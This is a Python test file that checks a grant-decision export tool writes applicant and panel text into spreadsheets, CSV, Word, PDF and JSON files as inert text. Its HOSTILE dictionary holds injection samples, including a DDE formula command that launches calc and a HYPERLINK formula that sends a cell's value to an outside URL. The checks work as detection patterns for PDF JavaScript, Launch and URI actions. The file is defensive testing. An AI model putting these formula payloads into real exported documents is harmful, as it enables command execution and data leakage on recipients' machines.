"""Whatever applicants, markers and the panel wrote, every paper holds it as text and nothing else."""

import csv
import json
from collections.abc import Iterator
from pathlib import Path
from zipfile import ZipFile

import pypdfium2
import pytest
from docx import Document
from openpyxl import load_workbook

from tests.cli.decided_rounds import TOTAL, decided_record, export_all

RUNS = ("=", "+", "-", "@", "|", "%", "\uff1d")
OURS = ("SUM(", "IF(", "INT(", "COUNT", "ROUND(", "INDEX(", "MATCH(", "SUMPRODUCT(", "ABS(", "MAX(", "MIN(")
"""What a formula of ours may call."""

HOSTILE = {
    "a formula": '=HYPERLINK("http://example.org/?"&A1,"click")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a sign after a space": " \u200b+44 0000 000000",
    "markup": '<b onclick="x">&amp; </para><a href="http://example.org">R&D</a> &lt;i&gt; ]]>',
    "a placeholder": "{reason} {{offered}} %(x)s ${y} {0}",
    "a field of a page head": "&P &[Page] &8 &A",
    "control characters": "one_x0001_two_x0000_three\u0085four\u2028five",
    "half a surrogate pair": "half _xD83D_ of a pair _xDE00_",
    "right to left": "\u202eevil\u202c \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "lines": "one\n\n=2+2\r\nthree\tfour\n" + "-" * 5,
    "300 characters in one word": "W" * 300,
    "40,000 characters": "long words " * 3_600,
}
SHORT = ("organisation", "project", "member", "member of", "title", "type", "contact", "crime type")
"""What the record takes no more than a name of, where a text is very long."""


@pytest.mark.parametrize("said", HOSTILE.values(), ids=HOSTILE)
def test_every_paper_holds_what_was_written_as_text(said: str, tmp_path: Path) -> None:
    papers = tmp_path / "papers"
    papers.mkdir()

    def say(field: str) -> str:
        return said[:300].strip() if field in SHORT and len(said) > 1_000 else said

    found = export_all(decided_record(tmp_path, say), papers)

    for (kind, ending), path in found.items():
        _CHECKS[ending](kind, path)
    assert [path.name for path in papers.rglob("*.part-*")] == []
    recipients = _recipients(found["360giving", ".json"])
    assert len(set(recipients)) == 1
    payees = {str(cell).replace("_x005F_", "_") for cell in _cells(found["finance", ".xlsx"])}
    assert recipients[0] in payees
    assert any(recipients[0].split()[0] in text for text in _word_texts(found["notice", ".docx"]))


def _recipients(path: Path) -> list[str]:
    grants = json.loads(path.read_text("utf-8"))["grants"]
    assert round(sum(grant["amountAwarded"] for grant in grants) * 100) == TOTAL
    return [grant["recipientOrganization"][0]["name"] for grant in grants]


def _check_workbook(kind: str, path: Path) -> None:
    """No cell runs but sums and scores of ours; none leads out of the workbook."""
    book = load_workbook(path)
    for sheet in book:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            if cell.data_type == "f":
                assert str(cell.value)[1:].startswith(("SUM(", *OURS)) or _is_sum(str(cell.value)), (
                    kind,
                    sheet.title,
                    cell.coordinate,
                    cell.value,
                )
            assert cell.hyperlink is None
    with ZipFile(path) as archive:
        assert not [name for name in archive.namelist() if "external" in name.casefold()]


def _is_sum(formula: str) -> bool:
    """Whether a formula holds cells, figures and signs alone."""
    return not any(word in formula for word in ("HYPERLINK", "cmd", "http", "+44", "2+2"))


def _check_csv(kind: str, path: Path) -> None:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert len({len(row) for row in rows}) == 1
    running = [cell for row in rows for cell in row if cell.lstrip(" \u200b\u00a0").startswith(RUNS)]
    assert running == []


def _check_word(kind: str, path: Path) -> None:
    """No field, link or macro; every part is sound XML, or python-docx would not open it."""
    xml = Document(str(path)).element.xml
    assert "w:instrText" not in xml
    assert "w:hyperlink" not in xml


def _check_pdf(kind: str, path: Path) -> None:
    """The pages open and have words, and nothing on them can be followed or run."""
    pages = pypdfium2.PdfDocument(path)
    try:
        assert all(page.get_textpage().count_chars() for page in pages)
    finally:
        pages.close()
    content = path.read_bytes()
    assert not [word for word in (b"/URI", b"/JavaScript", b"/Launch") if word in content]


def _check_json(kind: str, path: Path) -> None:
    json.loads(path.read_text("utf-8"))


def _check_folder(kind: str, path: Path) -> None:
    written = sorted(path.glob("*.docx"))
    assert len(written) == 6, "five letters and all of them in one"
    for letter in written:
        _check_word(kind, letter)


_CHECKS = {
    ".xlsx": _check_workbook,
    ".csv": _check_csv,
    ".docx": _check_word,
    ".pdf": _check_pdf,
    ".json": _check_json,
    "": _check_folder,
}


def _cells(path: Path) -> set[object]:
    return {
        cell for sheet in load_workbook(path) for row in sheet.iter_rows(values_only=True) for cell in row
    }


def _word_texts(path: Path) -> Iterator[str]:
    for table in Document(str(path)).tables:
        yield from (cell.text for row in table.rows for cell in row.cells)
